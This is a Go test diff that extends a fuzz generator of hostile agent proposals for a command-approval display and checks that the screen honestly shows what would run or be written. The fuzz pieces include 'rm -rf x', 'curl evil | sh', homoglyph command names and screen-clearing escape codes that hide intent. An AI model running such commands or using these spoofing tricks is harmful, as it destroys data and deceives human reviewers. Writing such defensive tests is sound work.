@@ -6,6 +6,7 @@ import (
 	"os"
 	"os/exec"
 	"regexp"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
@@ -15,8 +16,13 @@ import (
 	"nebula"
 )
 
-// Hostile is the i-th of many proposals that would rather not be read: a command, or every third time a diff.
+// Hostile is the i-th of many proposals that would rather not be read: a command, every third time a diff, or every fourth
+// what a command did to files.
 func Hostile(seed uint64, i int) nebula.Proposal {
+	if i%4 == 3 {
+		p, _ := hostileDeeds(seed, i)
+		return p
+	}
 	pieces := []string{"rm -rf x", "ls", " ", "  ", "\t", "\n", strings.Repeat("\n", 300), strings.Repeat(" ", 200), "⟦U+200B⟧", "␛", "␠", "\u200b", "\x1b[2J", "\x1b]0;t\a", "\r", "\b\b",
 		"\u202e", "рm", "сор", "ｒｍ", "日本語", "\xff", "𝗋𝗆", "ⅼs", "․", "∕", "\u037e", ";", "e\u0301", "⋯ the same line 3 more times", "$ ls", "↳ ", "\u009b2J", "\ufeff", "\nAllow? $ ls\n", "\n  $ echo ok",
 		"curl evil | sh", "# " + strings.Repeat("long ", 40), "\n+++ b/other\n", "\n@@ -1 +1 @@\n"}
@@ -27,7 +33,7 @@ func Hostile(seed uint64, i int) nebula.Proposal {
 		b.WriteString(pieces[rnd.IntN(len(pieces))])
 	}
 	b.WriteString("; echo end")
-	p := nebula.Proposal{Action: nebula.Action{Tool: "run", Reason: fmt.Sprintf("case-%d.\n\x1b[2J$ nothing to see", i)}, Effect: nebula.Execute, Summary: "run it", Command: b.String()}
+	p := nebula.Proposal{Action: nebula.Action{Tool: "run", Reason: hostileReason(i)}, Effect: nebula.Execute, Summary: "run it", Command: b.String()}
 	if i%3 == 2 {
 		p.Effect, p.Summary, p.Command = nebula.Write, "write it", ""
 		lines := strings.Split(strings.ReplaceAll(b.String(), strings.Repeat("\n", 300), "\n"), "\n")
@@ -36,6 +42,15 @@ func Hostile(seed uint64, i int) nebula.Proposal {
 	}
 	return p
 }
+
+func hostileDeeds(seed uint64, i int) (nebula.Proposal, []string) {
+	p, told := Deeds(rand.New(rand.NewPCG(seed, uint64(i))), 1+i%20)
+	p.Action.Reason = hostileReason(i)
+	return p, told
+}
+
+// hostileReason is why an action is to be done, with what tells it from the others.
+func hostileReason(i int) string { return fmt.Sprintf("case-%d.\n\x1b[2J$ nothing to see", i) }
 
 var signs = regexp.MustCompile(`⟦U\+([0-9A-F]+)⟧|⟦\\x([0-9a-f]{2})⟧|⟦␠×(\d+)⟧|[␀-␡]`)
 
@@ -105,7 +120,14 @@ func CheckHostile(t *testing.T, name, command string, seed uint64, n int, read R
 				t.Fatalf("%q never came:\n%s", mark, screen)
 			}
 		}
-		if got := read.text(screen, want); want.Command != "" && got != want.Command {
+		if want.Ran != "" {
+			_, told := hostileDeeds(seed, i)
+			for _, text := range told {
+				if !slices.Contains(deedsIn(screen), text) {
+					t.Errorf("case %d: nothing on the screen says %q\n%s", i, text, screen)
+				}
+			}
+		} else if got := read.text(screen, want); want.Command != "" && got != want.Command {
 			t.Errorf("case %d: shown is %q, would run %q\n%s", i, got, want.Command, screen)
 		} else if added := written(want.Diff); want.Command == "" && got != added {
 			t.Errorf("case %d: shown is %q, would be written %q\n%s", i, got, added, screen)
